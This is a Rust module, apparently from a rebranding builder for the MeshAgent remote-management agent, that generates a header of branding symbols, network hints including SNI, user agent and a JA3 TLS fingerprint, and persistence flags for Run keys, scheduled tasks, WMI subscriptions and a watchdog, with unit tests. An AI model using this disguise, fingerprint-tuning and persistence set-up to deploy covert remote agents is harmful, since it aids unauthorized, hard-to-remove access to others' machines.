//! Branding header generation
//!
//! Emits the `meshagent_branding.h` preprocessor header consumed by the
//! patched upstream sources: one symbol per branding identity field, the four
//! persistence flags and the network hint fields. Service-identity symbols
//! use the wide `TEXT("...")` literal form, everything else the C-string
//! form. Absent values emit `NULL`, never an empty string.

use super::Artifact;
use crate::config::{BrandingProfile, NetworkProfile, PersistenceProfile};

pub const FILE_NAME: &str = "meshagent_branding.h";

const GUARD: &str = "GENERATED_MESHAGENT_BRANDING_H";

pub fn generate(
    branding: &BrandingProfile,
    network: &NetworkProfile,
    persistence: &PersistenceProfile,
) -> Artifact {
    let mut lines: Vec<String> = vec![
        "/* Generated file - do not edit. */".to_string(),
        format!("#ifndef {}", GUARD),
        format!("#define {}", GUARD),
        String::new(),
    ];

    redefine(&mut lines, "MESH_AGENT_SERVICE_FILE", &text_literal(Some(branding.service_file())));
    redefine(&mut lines, "MESH_AGENT_SERVICE_FILE_A", &str_literal(Some(branding.service_file())));
    redefine(&mut lines, "MESH_AGENT_SERVICE_NAME", &text_literal(Some(branding.service_display())));
    redefine(&mut lines, "MESH_AGENT_COMPANY_NAME", &str_literal(Some(branding.company())));
    redefine(&mut lines, "MESH_AGENT_PRODUCT_NAME", &str_literal(Some(branding.product())));
    redefine(&mut lines, "MESH_AGENT_FILE_DESCRIPTION", &str_literal(Some(branding.file_description())));
    redefine(&mut lines, "MESH_AGENT_INTERNAL_NAME", &str_literal(Some(branding.binary())));
    redefine(&mut lines, "MESH_AGENT_COPYRIGHT", &str_literal(Some(branding.copyright())));
    redefine(&mut lines, "MESH_AGENT_INSTALL_DIRECTORY", &text_literal(Some(branding.install_directory())));
    redefine(&mut lines, "MESH_AGENT_LOG_DIRECTORY", &text_literal(Some(branding.log_directory())));

    lines.push(String::new());
    lines.push("/* Optional network hints for future use */".to_string());
    lines.push(define(
        "MESH_AGENT_NETWORK_ENDPOINT",
        &str_literal(network.primary_endpoint.as_deref()),
    ));
    lines.push(define("MESH_AGENT_NETWORK_SNI", &str_literal(network.sni.as_deref())));
    lines.push(define(
        "MESH_AGENT_NETWORK_USER_AGENT",
        &str_literal(network.user_agent.as_deref()),
    ));
    lines.push(define("MESH_AGENT_NETWORK_JA3", &str_literal(network.ja3.as_deref())));

    lines.push(String::new());
    lines.push("/* Persistence flags */".to_string());
    lines.push(define("MESH_AGENT_PERSIST_RUNKEY", flag(persistence.run_key)));
    lines.push(define("MESH_AGENT_PERSIST_TASK", flag(persistence.scheduled_task.enabled)));
    lines.push(define("MESH_AGENT_PERSIST_WMI", flag(persistence.wmi.enabled)));
    lines.push(define("MESH_AGENT_PERSIST_WATCHDOG", flag(persistence.watchdog.enabled)));

    lines.push(String::new());
    lines.push(format!("#endif /* {} */", GUARD));
    lines.push(String::new());

    Artifact::new(FILE_NAME, lines.join("\n"))
}

fn redefine(lines: &mut Vec<String>, symbol: &str, value: &str) {
    lines.push(format!("#undef {}", symbol));
    lines.push(format!("#define {} {}", symbol, value));
}

fn define(symbol: &str, value: &str) -> String {
    format!("#define {} {}", symbol, value)
}

fn flag(value: bool) -> &'static str {
    if value {
        "1"
    } else {
        "0"
    }
}

/// Wide-string literal form; absent values emit the null sentinel.
fn text_literal(value: Option<&str>) -> String {
    match value {
        None => "NULL".to_string(),
        Some(v) => format!("TEXT(\"{}\")", escape_c(v)),
    }
}

/// C-string literal form with backslash and quote escaping.
fn str_literal(value: Option<&str>) -> String {
    match value {
        None => "NULL".to_string(),
        Some(v) => format!("\"{}\"", escape_c(v)),
    }
}

fn escape_c(value: &str) -> String {
    value.replace('\\', "\\\\").replace('"', "\\\"")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{ScheduledTask, Watchdog, WmiSubscription};

    fn branded() -> BrandingProfile {
        BrandingProfile {
            service_name: Some("Acme Agent".to_string()),
            display_name: Some("Acme Agent background service".to_string()),
            company_name: Some("Acme Remote".to_string()),
            log_path: Some(r"%ProgramData%\Acme Agent".to_string()),
            ..Default::default()
        }
    }

    #[test]
    fn test_wide_and_narrow_literal_forms() {
        let artifact = generate(
            &branded(),
            &NetworkProfile::default(),
            &PersistenceProfile::default(),
        );

        assert_eq!(artifact.file_name, FILE_NAME);
        assert!(artifact
            .contents
            .contains("#define MESH_AGENT_SERVICE_FILE TEXT(\"Acme Agent\")"));
        assert!(artifact
            .contents
            .contains("#define MESH_AGENT_SERVICE_FILE_A \"Acme Agent\""));
        assert!(artifact
            .contents
            .contains("#define MESH_AGENT_COMPANY_NAME \"Acme Remote\""));
    }

    #[test]
    fn test_backslash_escaping() {
        let artifact = generate(
            &branded(),
            &NetworkProfile::default(),
            &PersistenceProfile::default(),
        );
        assert!(artifact
            .contents
            .contains("TEXT(\"%ProgramData%\\\\Acme Agent\")"));
    }

    #[test]
    fn test_absent_network_hints_emit_null() {
        let artifact = generate(
            &BrandingProfile::default(),
            &NetworkProfile::default(),
            &PersistenceProfile::default(),
        );
        assert!(artifact.contents.contains("#define MESH_AGENT_NETWORK_ENDPOINT NULL"));
        assert!(artifact.contents.contains("#define MESH_AGENT_NETWORK_JA3 NULL"));
        assert!(!artifact.contents.contains("NETWORK_ENDPOINT \"\""));
    }

    #[test]
    fn test_persistence_flags() {
        let persistence = PersistenceProfile {
            run_key: true,
            scheduled_task: ScheduledTask {
                enabled: false,
                ..Default::default()
            },
            wmi: WmiSubscription { enabled: true },
            watchdog: Watchdog {
                enabled: false,
                interval_seconds: None,
            },
        };
        let artifact = generate(
            &BrandingProfile::default(),
            &NetworkProfile::default(),
            &persistence,
        );
        assert!(artifact.contents.contains("#define MESH_AGENT_PERSIST_RUNKEY 1"));
        assert!(artifact.contents.contains("#define MESH_AGENT_PERSIST_TASK 0"));
        assert!(artifact.contents.contains("#define MESH_AGENT_PERSIST_WMI 1"));
        assert!(artifact.contents.contains("#define MESH_AGENT_PERSIST_WATCHDOG 0"));
    }

    #[test]
    fn test_generation_is_deterministic() {
        let branding = branded();
        let network = NetworkProfile {
            primary_endpoint: Some("wss://relay.acme.example/agent.ashx".to_string()),
            ..Default::default()
        };
        let persistence = PersistenceProfile::default();

        let first = generate(&branding, &network, &persistence);
        let second = generate(&branding, &network, &persistence);
        assert_eq!(first, second);
    }

    #[test]
    fn test_include_guard_present() {
        let artifact = generate(
            &BrandingProfile::default(),
            &NetworkProfile::default(),
            &PersistenceProfile::default(),
        );
        assert!(artifact.contents.starts_with("/* Generated file - do not edit. */\n#ifndef GENERATED_MESHAGENT_BRANDING_H"));
        assert!(artifact.contents.trim_end().ends_with("#endif /* GENERATED_MESHAGENT_BRANDING_H */"));
    }
}
